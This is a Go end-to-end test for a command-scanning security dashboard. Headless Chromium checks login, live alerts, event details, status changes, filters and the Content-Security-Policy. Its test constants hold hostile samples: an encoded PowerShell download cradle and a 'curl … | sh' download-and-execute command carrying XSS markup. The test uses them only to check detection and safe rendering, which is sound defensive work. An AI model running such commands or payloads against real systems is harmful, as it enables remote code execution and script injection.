package web_test

import (
	"context"
	"slices"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/vigilsec/vigil/internal/store"
)

const (
	// encodedCradle is a PowerShell download cradle behind -EncodedCommand:
	// its alert has a deobfuscation step, several rules and techniques.
	encodedCradle = "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAnACkA"
	// xssCommand is malicious (download and execute) and carries markup
	// that would run if the dashboard rendered it as HTML.
	xssCommand = `curl -s http://203.0.113.9/x.sh | sh; echo '<script>window.__xss=1</script><img src=x onerror="window.__xss=2"><b id=injected>bold</b>'`
)

// injected counts elements that only exist if event data became markup.
const injected = `document.querySelectorAll('#feed-body script, #feed-body img, #feed-body b, #detail script, #detail img, #detail b, #injected').length`

// TestDashboardEndToEnd drives /ui in headless Chromium against a real
// server: key entry, a scan arriving in the live feed, the event view,
// acknowledge, false positive, an XSS attempt rendered as text, charts and
// filters. It leaves a screenshot as an artifact.
func TestDashboardEndToEnd(t *testing.T) {
	b := newBrowser(t)
	s := startServer(t)

	b.do("open /ui", chromedp.Navigate(s.URL+"/ui"), chromedp.WaitVisible(chromedp.CSS("#login-form")))
	login(b, "vgl_not_a_key", "refused")
	login(b, s.scanOnly, "lacks the admin scope")
	login(b, s.admin, "")
	b.waitFor("the live stream", `document.querySelector('#conn').dataset.state === 'live'`)
	b.waitFor("the first page of alerts", `document.querySelector('#counts').textContent.includes('in view')`)

	cradle := arrive(t, b, s, encodedCradle, 1)
	eventView(t, b, cradle)
	acknowledge(t, b, s, cradle)

	xss := arrive(t, b, s, xssCommand, 2)
	renderedAsText(t, b, xss)
	falsePositive(t, b, s, xss)

	charts(b)
	b.do("dismiss the message and select the first alert", chromedp.Click(chromedp.CSS("#toast")),
		chromedp.Click(chromedp.CSS(row(cradle))))
	b.waitFor("its event view", `document.querySelector('#d-command')?.textContent === `+js(encodedCradle))
	b.screenshot("dashboard.png")
	filters(b, cradle, xss)
	cspBlocksInlineScript(b)
	if errs := b.pageErrors(); len(errs) > 0 {
		t.Errorf("the page reported errors:\n%s", strings.Join(errs, "\n"))
	}
}

// login submits a key and waits for the error it should cause, or for the
// dashboard when wantErr is empty.
func login(b *browser, key, wantErr string) {
	b.t.Helper()
	b.do("enter the key", chromedp.Evaluate[chromedp.Void](`document.querySelector('#key').value = ''`),
		chromedp.SendKeys(chromedp.CSS("#key"), key),
		chromedp.Click(chromedp.CSS("#connect")))
	if wantErr != "" {
		b.waitFor("the key error "+wantErr, `document.querySelector('#login-error').textContent.includes(`+js(wantErr)+`)`)
		return
	}
	b.waitFor("the dashboard", `!document.querySelector('#app').hidden && document.querySelector('#login').hidden`)
}

func row(id string) string { return `#feed-body tr[data-id="` + id + `"]` }

// arrive scans a command through the API and waits for its alert to come
// in through the live stream (only stream arrivals are marked fresh).
func arrive(t *testing.T, b *browser, s *server, cmd string, n int) string {
	t.Helper()
	if v := s.scan(cmd); v.Label != "Malicious" {
		t.Fatalf("scan %q: %s, want Malicious", cmd, v.Label)
	}
	s.waitAlerts(n)
	page, err := s.Store.ListAlerts(context.Background(), store.AlertFilter{Limit: 1})
	if err != nil {
		t.Fatal(err)
	}
	id := page.Alerts[0].ID
	b.waitFor("the alert in the live feed", `document.querySelector(`+js(row(id)+".fresh")+`) !== null`)
	return id
}

func eventView(t *testing.T, b *browser, id string) {
	t.Helper()
	b.do("open the event", chromedp.Click(chromedp.CSS(row(id))))
	b.waitFor("the event view", `document.querySelector('#d-trace')?.textContent.includes('ps_encoded_command')`)
	got := eval[map[string]string](b, `({
		deobfuscated: document.querySelector('#d-deobfuscated').textContent,
		trace: document.querySelector('#d-trace').textContent,
		rules: document.querySelector('#d-rules').textContent,
		techniques: document.querySelector('#d-techniques').textContent,
		label: document.querySelector('#detail .badge.label').textContent,
	})`)
	want := map[string][]string{
		"deobfuscated": {"IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a')"},
		"trace":        {"ps_encoded_command"},
		"rules":        {"vigil.cmd.powershell_encoded_command", "vigil.cmd.powershell_download_cradle"},
		"techniques":   {"T1059", "Command and Scripting Interpreter", "Execution", "T1105", "Ingress Tool Transfer", "Command and Control"},
		"label":        {"Malicious"},
	}
	for field, parts := range want {
		for _, p := range parts {
			if !strings.Contains(got[field], p) {
				t.Errorf("event view %s %q lacks %q", field, got[field], p)
			}
		}
	}
}

func acknowledge(t *testing.T, b *browser, s *server, id string) {
	t.Helper()
	b.do("acknowledge", chromedp.Click(chromedp.CSS("#act-ack")))
	b.waitFor("the acknowledged status in the feed and the view",
		`document.querySelector(`+js(row(id))+`).dataset.status === 'acknowledged' && `+
			`document.querySelector('#detail .badge.status').dataset.value === 'acknowledged' && document.querySelector('#act-ack').disabled`)
	if a := s.alert(id); a.Status != store.StatusAcknowledged {
		t.Errorf("the API says %q after acknowledging in the dashboard", a.Status)
	}
}

func renderedAsText(t *testing.T, b *browser, id string) {
	t.Helper()
	b.do("open the XSS event", chromedp.Click(chromedp.CSS(row(id))))
	b.waitFor("its event view", `document.querySelector('#d-command')?.textContent === `+js(xssCommand))
	if n := eval[int](b, injected); n != 0 {
		t.Errorf("%d elements were created from the command line's markup", n)
	}
	if cell := eval[string](b, `document.querySelector(`+js(row(id)+" td.cmd")+`).textContent`); !strings.Contains(cell, "<script>window.__xss=1</script>") {
		t.Errorf("the feed shows %q, want the markup as text", cell)
	}
	if ran := eval[string](b, `typeof window.__xss`); ran != "undefined" {
		t.Errorf("script from the command line ran (window.__xss is %s)", ran)
	}
}

func falsePositive(t *testing.T, b *browser, s *server, id string) {
	t.Helper()
	b.do("mark false positive", chromedp.Click(chromedp.CSS("#act-fp")), chromedp.Click(chromedp.CSS("#act-fp-confirm")))
	b.waitFor("the false-positive status", `document.querySelector(`+js(row(id))+`).dataset.status === 'false_positive'`)
	b.waitFor("the allow rule in the message", `document.querySelector('#toast').textContent.includes('allow rule alw_')`)
	if a := s.alert(id); a.Status != store.StatusFalsePositive {
		t.Errorf("the API says %q after marking a false positive in the dashboard", a.Status)
	}
}

func charts(b *browser) {
	b.t.Helper()
	b.waitFor("the time chart with both alerts",
		`[...document.querySelectorAll('#chart-time svg title')].some((t) => t.textContent.includes('2 alerts (2 Malicious)'))`)
	b.waitFor("T1059 in the top techniques", `document.querySelector('#chart-techniques g.technique[data-id="T1059"]') !== null`)
}

func filters(b *browser, cradle, xss string) {
	b.t.Helper()
	ids := func() []string {
		return eval[[]string](b, `[...document.querySelectorAll('#feed-body tr')].map((r) => r.dataset.id)`)
	}
	b.do("filter by status new", chromedp.SetValue(chromedp.CSS("#f-status"), "new"))
	b.waitFor("an empty feed", `document.querySelectorAll('#feed-body tr').length === 0 && !document.querySelector('#feed-empty').hidden`)
	b.do("clear the filters", chromedp.Click(chromedp.CSS("#f-clear")))
	b.waitFor("both alerts back", `document.querySelectorAll('#feed-body tr').length === 2`)
	b.do("filter by T1105 from the chart", chromedp.Click(chromedp.CSS(`#chart-techniques g.technique[data-id="T1105"]`)))
	b.waitFor("the filtered feed", `document.querySelector('#f-technique').value === 'T1105' && location.hash.includes('technique=T1105')`)
	b.waitFor("only the cradle", `document.querySelectorAll('#feed-body tr').length === 1`)
	if got := ids(); !slices.Equal(got, []string{cradle}) {
		b.t.Errorf("technique filter T1105 shows %v, want only %s (not %s)", got, cradle, xss)
	}
}

// cspBlocksInlineScript checks that the policy is in force: an inline
// script added to the page does not run.
func cspBlocksInlineScript(b *browser) {
	b.t.Helper()
	before := len(b.pageErrors())
	ran := eval[bool](b, `(() => { const s = document.createElement('script'); s.textContent = 'window.__inline = true';
		document.body.append(s); return window.__inline === true; })()`)
	if ran {
		b.t.Error("an inline script ran: the Content-Security-Policy is not in force")
	}
	b.mu.Lock()
	b.errors = b.errors[:before] // the refusal is logged as an error, as it should be
	b.mu.Unlock()
}
